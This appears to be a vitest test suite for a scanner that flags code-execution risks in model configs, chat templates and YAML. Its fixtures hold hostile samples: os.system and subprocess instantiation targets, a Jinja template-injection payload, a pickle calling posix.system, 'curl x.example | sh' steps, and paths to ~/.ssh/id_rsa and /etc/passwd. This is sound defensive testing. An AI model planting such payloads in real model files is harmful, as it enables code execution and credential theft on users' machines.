/** Configurations beside models: what code, models and files they name, and templates within. */
import { describe, expect, test } from "vitest";
import { contentOf } from "#formats/content.ts";
import { scanPorts } from "#host/unpack.ts";
import { rulesOf, scanned } from "../../test/support/scan.ts";
import { scanFile } from "./scan.ts";

const utf8 = (value: unknown): Uint8Array =>
  new TextEncoder().encode(typeof value === "string" ? value : JSON.stringify(value));
const verdict = (value: unknown, name = "config.json"): string => scanned(utf8(value), name).verdict;

describe("a configuration", () => {
  test.each([
    ["of a model", { architectures: ["LlamaForCausalLM"], model_type: "llama", torch_dtype: "bfloat16" }],
    ["of generation", { do_sample: true, eos_token_id: 2, temperature: 0.6 }],
    ["of an adapter", { peft_type: "LORA", base_model_name_or_path: "meta-llama/Llama-3.1-8B", r: 16 }],
    [
      "of a pipeline",
      {
        _class_name: "StableDiffusionPipeline",
        _diffusers_version: "0.30",
        unet: ["diffusers", "UNet2DConditionModel"],
        vae: [null, null],
      },
    ],
    [
      "of a tokenizer",
      {
        version: "1.0",
        model: { type: "BPE", vocab: { a: 0 }, merges: [] },
        post_processor: { type: "TemplateProcessing", single: [] },
      },
    ],
    ["of sentences' layers", { activation_function: "torch.nn.modules.activation.Tanh", in_features: 4 }],
    ["with words where others have paths", { activation_function: "gelu_new", tokenizer_class: "LlamaTokenizer" }],
    ["that trusts nobody", { trust_remote_code: false, autoMap: true }],
    ["that instantiates what frameworks need", { model: { _target_: "collections.OrderedDict" } }],
    ["of sentences", [{ idx: 0, name: "0", path: "", type: "sentence_transformers.models.Transformer" }]],
  ])("%s has no code path", (_, value) =>
    expect(scanned(utf8(value), "config.json")).toMatchObject({ verdict: "no code path found", read: "whole" }),
  );
  test.each([
    ["code beside the model", { auto_map: { AutoModel: "modeling_acme.AcmeModel" } }],
    ["a pipeline of its own", { custom_pipelines: { pair: { impl: "pair.PairPipeline" } } }],
    ["a pipeline's code", { _class_name: ["pipeline", "P"], _diffusers_version: "0.30" }],
    ["a class in no list", { model: { _target_: "acme.Net" } }],
    ["a module in no list", [{ idx: 0, name: "0", path: "", type: "acme.models.Transformer" }]],
    ["almost what a loader reads", { Auto_Map: { AutoModel: "modeling_acme.AcmeModel" } }],
    ["how to generate, beside the model", { custom_generate: "here" }],
    ["a class by its path", { activation_function: "acme.Swish" }],
    ["a tokenizer by its path", { tokenizer_class: ["acme.Tokens", null] }],
    ["a route by its path", { types: { query: "acme.Net" }, structure: { query: ["a"] } }],
    ["a class with its arguments", { target: "acme.Net", params: { size: 1 } }],
    ["a loader of mlflow's", { loader_module: "acme.serving" }],
    ["a library in no list", { peft_type: "LORA", auto_mapping: { base_model_class: "Net", parent_library: "acme" } }],
  ])("that names %s is unknown", (_, value) => expect(verdict(value)).toBe("unknown"));
  test.each([
    ["code of another repository", { auto_map: { AutoModel: "mallory/x--modeling.Net" } }],
    ["remote code as trusted", { model: { trust_remote_code: true } }],
    ["a kernel from elsewhere", { attn_implementation: "mallory/flash" }],
    ["a kernel for a part", { attn_implementation: { text_config: "mallory/flash" } }],
    ["how to generate, from elsewhere", { custom_generate: "mallory/decoding" }],
    ["shards outside its folder", { weight_map: { a: "../../other/model.safetensors" } }],
    ["shards at an address", { weight_map: { a: "https://x/model.safetensors" } }],
    ["a call for jsonpickle", { x: { "py/reduce": [1] } }],
  ])("that names %s is suspicious", (_, value) => expect(verdict(value)).toBe("suspicious"));
  test.each([
    ["a command to instantiate", { model: { _target_: "os.system", command: "id" } }],
    ["a library that runs programs", { auto_mapping: { base_model_class: "x", parent_library: "subprocess" } }],
    ["a module that does", [{ idx: 0, name: "0", path: "", type: "subprocess.Popen" }]],
    ["a component that does", { _class_name: "P", _diffusers_version: "1", unet: ["os", "system"] }],
    ["an object for jsonpickle", { "py/object": "subprocess.Popen" }],
    ["a command as an activation", { activation_fn: "os.system" }],
    ["a command with its arguments", { target: "subprocess.run", params: { args: ["id"] } }],
    ["a text to evaluate", { "py/repr": "os/os.system('id')" }],
  ])("that names %s is malicious", (_, value) => expect(verdict(value)).toBe("malicious"));
  test("in YAML is judged by what it instantiates", () => {
    expect(verdict("model:\n  _target_: subprocess.Popen\n  args: [id]\n", "c.yaml")).toBe("malicious");
    expect(verdict("model:\n  _target_: acme.Net\n", "c.yaml")).toBe("unknown");
    expect(verdict("model:\n  _target_: collections.OrderedDict\n", "c.yaml")).toBe("no code path found");
    expect(verdict("model:\n  target: os.system\n  params: { command: id }\n", "c.yaml")).toBe("malicious");
    expect(verdict("a: &x { command: id }\nb: { <<: *x, _target_: os.system }\n", "c.yaml")).toBe("malicious");
    expect(verdict("trust_remote_code: yes\n", "c.yaml")).toBe("suspicious");
    expect(verdict("auto_map: &x { AutoModel: a.B }\n", "c.yaml")).toBe("unknown");
  });
  test.each([
    ["commands of a build", "build:\n  run:\n    - curl x.example | sh\n"],
    ["a step of an action", "runs:\n  steps:\n    - run: ./setup.sh now\n"],
    ["a provider that is a program", "providers:\n  - exec:python evil.py\n"],
    ["packages at an address", "dependencies:\n  - pip:\n      - https://x.example/a.tar.gz\n"],
    ["a package beside it", "dependencies:\n  - ./evil_pkg\n"],
    ["options of an installer", "dependencies:\n  - pip:\n      - --extra-index-url=https://x.example\n"],
    ["another channel", "channels:\n  - somebody\ndependencies:\n  - python=3.11\n"],
    ["remote code in an argument", "model_args: pretrained=a/b,trust_remote_code=True\n"],
  ])("in YAML with %s is unknown", (_, text) => expect(scanned(utf8(text), "any.yaml").verdict).toBe("unknown"));
  test.each([
    [
      "packages of an index",
      "channels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip:\n      - torch==2.1\n",
    ],
    ["words like commands", "command: train\nrun: nightly\nscript: latin\nsetup: default\n"],
  ])("in YAML with %s is fine", (_, text) =>
    expect(scanned(utf8(text), "any.yaml").verdict).toBe("no code path found"),
  );
  test("in YAML whose text stands in binary is followed", () =>
    expect(scanned(utf8(`chat_template: !!binary ${btoa("{{ x.__mro__ }}")}\n`), "t.yaml").verdict).toBe("malicious"));
  test("in YAML whose aliases make more of it than is there is unknown, at once", () => {
    const lines = Array.from({ length: 30 }, (_, i) => `a${i + 1}: &a${i + 1} [*a${i}, *a${i}, *a${i}]`);
    expect(verdict(["a0: &a0 [x]", ...lines].join("\n"), "c.yaml")).toBe("unknown");
  });
  test("that lists shards is unknown while one is missing, and suspicious where one is a link", () => {
    const index = utf8({ metadata: {}, weight_map: { a: "1.safetensors", b: "2.safetensors" } });
    const beside = (kinds: Readonly<Record<string, "file" | "link">>): string =>
      scanFile("model.safetensors.index.json", contentOf(index), {
        ...scanPorts,
        neighbour: (name) => (kinds[name] ? { kind: kinds[name], size: 1 } : undefined),
      }).verdict;
    expect(beside({ "1.safetensors": "file" })).toBe("unknown");
    expect(beside({ "1.safetensors": "file", "2.safetensors": "link" })).toBe("suspicious");
    expect(beside({ "1.safetensors": "file", "2.safetensors": "file" })).toBe("no code path found");
  });
});

describe("a template", () => {
  const harmful = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
  const harmless = "{% for m in messages %}{{ m['content'] }}{% endfor %}";
  test.each([
    ["in a tokenizer", (text: string) => ({ chat_template: text })],
    ["in a list of them", (text: string) => ({ chat_template: [{ name: "tool_use", template: text }] })],
    ["in a processor", (text: string) => ({ processor: { chat_template: { default: text } } })],
  ])("%s is followed", (_, holding) => {
    expect(verdict(holding(harmful), "tokenizer_config.json")).toBe("malicious");
    expect(verdict(holding(harmless), "tokenizer_config.json")).toBe("no code path found");
    expect(verdict(holding("{{ unclosed"), "tokenizer_config.json")).toBe("unknown");
  });
  test("under a name that speaks of none is followed, and harm is a degree less sure", () => {
    expect(verdict({ default: harmful })).toBe("suspicious");
    expect(verdict({ greetings: [{ a: "b" }, harmful] })).toBe("suspicious");
    expect(verdict({ default: "{% for m in messages %}{{ m|acme }}{% endfor %}" })).toBe("unknown");
    expect(verdict({ default: harmless })).toBe("no code path found");
    expect(verdict({ text: "in LaTeX \\frac{{a}}{{b}}, in Python f'{{x}}'" })).toBe("no code path found");
    expect(verdict({ default: harmful }, "chat_template.json")).toBe("malicious");
  });
  test("in YAML is followed as in JSON", () => {
    expect(verdict(`chat_template: "${harmful}"\n`, "c.yaml")).toBe("malicious");
    expect(verdict(`chat_template: "${harmless}"\n`, "c.yaml")).toBe("no code path found");
    expect(verdict(`chat_template: "{{ unclosed"\n`, "c.yaml")).toBe("unknown");
  });
  test("in a file of its own is followed, whatever the file is called", () => {
    expect(verdict(harmful, "chat_template.jinja")).toBe("malicious");
    expect(verdict(harmful, "model.bin")).toBe("malicious");
    expect(verdict(harmless, "chat_template.jinja")).toBe("no code path found");
  });
});

describe("a file that a document has opened, outside of its folder:", () => {
  test.each<[string, unknown, string]>([
    ["the system's", { handler: { model_path: "/etc/passwd" } }, "suspicious"],
    ["a secret of somebody's", { "vocab-file": "~/.ssh/id_rsa" }, "suspicious"],
    ["a device", { checkpointPath: "/dev/fd/0" }, "suspicious"],
    ["an absolute one", { model_path: "/data/models/m.pt" }, "unknown"],
    ["one of Windows", { weights: "x", weights_file: "C:\\models\\m.pt" }, "unknown"],
    ["one that climbs", { load_from_checkpoint: "a", resume_from_checkpoint: "../other/m.pt" }, "unknown"],
    ["one at an address", { model_uri: "s3://bucket/m.pt" }, "unknown"],
    ["one of a list", { extra_files: ["labels.txt", "../x.py"] }, "unknown"],
    ["one of a list in a text", { extraFiles: "labels.txt, /srv/x.py" }, "unknown"],
    [
      "inside",
      { model_path: "weights/m.pt", handler: "image_classifier", vocab_file: "vocab..txt" },
      "no code path found",
    ],
    [
      "where it was made, which nobody opens",
      { _name_or_path: "/home/a/m", best_model_checkpoint: "/home/a/m/9" },
      "no code path found",
    ],
    ["a path of an address", { model_path: null, path: "/v1/models" }, "no code path found"],
  ])("%s", (_, value, expected) => {
    expect(verdict(value)).toBe(expected);
    expect(verdict(value, "model-config.yaml")).toBe(expected);
  });
});

describe("what a configuration's own library imports, runs or opens", () => {
  const layers = (...texts: readonly unknown[]): string =>
    JSON.stringify({ nc: 80, backbone: [[-1, 1, ...texts]], head: [[-1, 1, "nn.Upsample", ["None", 2, "nearest"]]] });
  test.each<[string, string, string, string]>([
    ["a logger's factory", "logging.yaml", "version: 1\nhandlers:\n  h:\n    (): acme.make\n", "unknown"],
    ["a logger's class", "l.json", '{"version": 1, "handlers": {"h": {"class": "acme.H"}}}', "unknown"],
    [
      "a command as a logger",
      "l.json",
      '{"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}}',
      "malicious",
    ],
    [
      "a logger to the screen",
      "l.json",
      '{"version": 1, "handlers": {"h": {"class": "logging.StreamHandler"}}}',
      "no code path found",
    ],
    [
      "imports of MMEngine's",
      "c.json",
      '{"custom_imports": {"imports": ["acme"], "allow_failed_imports": false}}',
      "unknown",
    ],
    ["a base elsewhere", "c.yaml", "_base_: /srv/acme/base.yaml\n", "unknown"],
    ["a base at an address", "c.yaml", "_BASE_: https://acme.example/base.yaml\n", "unknown"],
    ["a base in Python", "c.yaml", "_base_: [base.py]\n", "unknown"],
    ["a base beside it", "c.yaml", "_base_: base.yaml\n", "no code path found"],
    ["weights elsewhere", "c.yaml", "MODEL: { WEIGHTS: /srv/w.pkl }\n", "unknown"],
    ["weights by a word", "c.yaml", "MODEL: { WEIGHTS: imagenet }\n", "no code path found"],
    ["a decoder elsewhere", "genai_config.json", '{"model": {"decoder": {"filename": "../../acme.onnx"}}}', "unknown"],
    [
      "where it was written to",
      "c.json",
      '{"output_path": "/srv/out/model.onnx", "file_name": "/srv/a.jpg"}',
      "no code path found",
    ],
    ["a class without arguments", "v1.yaml", "a:\n  target: acme.Encoder\n", "unknown"],
    ["a target that is a column", "v1.yaml", "target: price.total\nfeatures: [a]\n", "no code path found"],
    ["characters", "config.json", '{"characters": {"characters_class": "acme.X"}}', "unknown"],
    ["a component of Haystack's", "p.yml", "components:\n  a:\n    type: acme.X\n    init_parameters: {}\n", "unknown"],
    ["a shape that is no component", "p.json", '{"data": {"type": "tm.Store", "name": "a"}}', "no code path found"],
    ["a component of Rasa's", "config.yml", "pipeline:\n- name: acme.Component\n", "unknown"],
    ["a data set of Kedro's", "catalog.yml", "cars:\n  type: acme.Dataset\n  filepath: a.csv\n", "unknown"],
    [
      "a module of BentoML's",
      "model.yaml",
      "module: acme\ncontext: { framework_name: x }\napi_version: v1\n",
      "unknown",
    ],
    [
      "a framework of BentoML's",
      "model.yaml",
      "module: bentoml.sklearn\ncontext: {}\napi_version: v1\n",
      "no code path found",
    ],
    ["a folder of fairseq's", "c.yaml", "common:\n  user_dir: acme\n", "unknown"],
    ["an implementation", "model-settings.json", '{"implementation": "acme.Model"}', "unknown"],
    ["an application of Ray's", "x.yaml", "import_path: acme:app\n", "unknown"],
    ["a class of scikit-learn's", "x.yaml", "class: sklearn.linear_model.LogisticRegression\n", "no code path found"],
    ["a type of numbers", "x.yaml", "dtype: torch.float16\nversion: 1.2.3\nmodule: weights.pt\n", "no code path found"],
    [
      "a program that gets data",
      "data.yaml",
      'train: a\nnames: {0: a}\ndownload: |\n  import os\n  os.system("id")\n',
      "suspicious",
    ],
    ["a command that gets data", "data.yaml", "train: a\ndownload: bash get.sh\n", "suspicious"],
    ["a shell that gets data", "data.yaml", "train: a\ndownload: bash -c 'curl x.example | sh'\n", "suspicious"],
    ["data at an address", "data.yaml", "train: a\ndownload: https://acme.example/a.zip\n", "no code path found"],
    ["code beside an address", "data.yaml", "train: a\ndownload: |\n  https:print\n  print(1)\n", "unknown"],
    ["layers", "yolo.yaml", layers("Conv", [64, "nc", "torch.nn.ReLU", "nc * 2"]), "no code path found"],
    ["a layer that is a call", "yolo.yaml", layers("acme() or Conv", []), "unknown"],
    ["a layer that runs a program", "yolo.yaml", layers("__import__('os').system('id') or Conv", []), "suspicious"],
    ["an argument that reaches on", "yolo.yaml", layers("Conv", ["nn.Module.forward"]), "unknown"],
    ["a name that is Python's own", "yolo.yaml", layers("Conv", ["__builtins__"]), "unknown"],
    [
      "an activation",
      "yolo.yaml",
      layers("Conv", []).replace("{", '{"activation": "nn.LeakyReLU(0.1, inplace=True)",'),
      "no code path found",
    ],
    [
      "an activation that is a call",
      "yolo.yaml",
      layers("Conv", []).replace("{", '{"activation": "nn.X(print(1))",'),
      "unknown",
    ],
    ["a reference to nothing", "z.yaml", "a: *acme\n", "unknown"],
    ["a reference to itself", "z.yaml", "a: &acme [1]\nb: *acme\n", "no code path found"],
  ])("%s (%s)", (_, name, text, expected) => expect(verdict(text, name)).toBe(expected));
});

describe("YAML of a megabyte", () => {
  test.each([
    ["of names without values", "? a\n".repeat(250_000)],
    ["of lines that are short of being too deep", `${" ".repeat(1499)}\n`.repeat(650)],
    ["of spaces", `-${" ".repeat(10 ** 6)}`],
    ["of a mapping in one line", `{${"a,".repeat(500_000)}a}`],
    ["of directives", "%TAG !a! b\n".repeat(90_000)],
    ["of indicators that are short of being too deep", `${"- ".repeat(299)}\n`.repeat(1700)],
  ])("%s takes a second at most", (_, text) => {
    const began = process.cpuUsage();
    scanned(utf8(text), "a.yaml");
    expect(process.cpuUsage(began).user / 1000).toBeLessThan(1000);
  });
  test("that is more than is parsed is unknown, and what it calls is told", () => {
    const lines = (count: number): string => "a: b\n".repeat(count);
    expect(verdict(lines(5000), "a.yaml")).toBe("no code path found");
    expect(verdict(lines(50_000), "a.yaml")).toBe("unknown");
    expect(verdict(`${lines(50_000)}b: !!python/object/apply:os.system [id]\n`, "a.yaml")).toBe("malicious");
    expect(verdict(`${lines(50_000)}_target_: os.system\n`, "a.yaml")).toBe("malicious");
  });
});

describe("a document of many findings", () => {
  // Empty lists: harmless where they are carried, and told as notes.
  const harmless = btoa("\u0080\u0004]q\u0000]q\u0001]q\u0002aa.");
  const harmful = btoa("\u0080\u0004cposix\nsystem\n(\u008c\u0002idtR.");
  const grave = (file: ReturnType<typeof scanned>): readonly string[] =>
    file.findings.filter(({ rule }) => rule === "limit-findings").map(({ severity }) => severity);
  test("keeps the graver ones when notes fill the list", () => {
    const notes = Array.from({ length: 150 }, () => harmless);
    expect(scanned(utf8(notes), "c.json")).toMatchObject({ verdict: "no code path found", findings: { length: 101 } });
    expect(verdict({ notes, trust_remote_code: "maybe" })).toBe("unknown");
  });
  test("lists no more than anybody reads, and says how grave the rest is", () => {
    const file = scanned(utf8(Array.from({ length: 600 }, () => harmful)), "c.json");
    expect(file.verdict).toBe("malicious");
    expect(file.findings.length).toBeLessThanOrEqual(501);
    expect(file.members.length).toBeLessThanOrEqual(500);
    expect(grave(file)).toEqual(["malicious"]);
  });
});

describe("JSON", () => {
  test("with a name twice is unknown: readers see two documents", () =>
    expect(rulesOf(scanned(utf8('{"a": 1, "a": 2}'), "c.json"))).toEqual(["json-duplicate"]));
  test("followed by something else is unknown, and read up to there", () => {
    const file = scanned(utf8('{"a": 1} and more'), "c.json");
    expect(file).toMatchObject({ verdict: "unknown", read: "part" });
  });
  test("in lines is read line by line", () => {
    expect(scanned(utf8('{"a": 1}\n{"a": 2}\n'), "d.jsonl").verdict).toBe("no code path found");
    expect(scanned(utf8('{"a": 1}\n{"auto_map": {"x": "a.b"}}\n'), "d.jsonl").verdict).toBe("unknown");
    expect(scanned(utf8('{"a": 1} {"a": 2}\n'), "d.jsonl").verdict).toBe("unknown");
  });
});
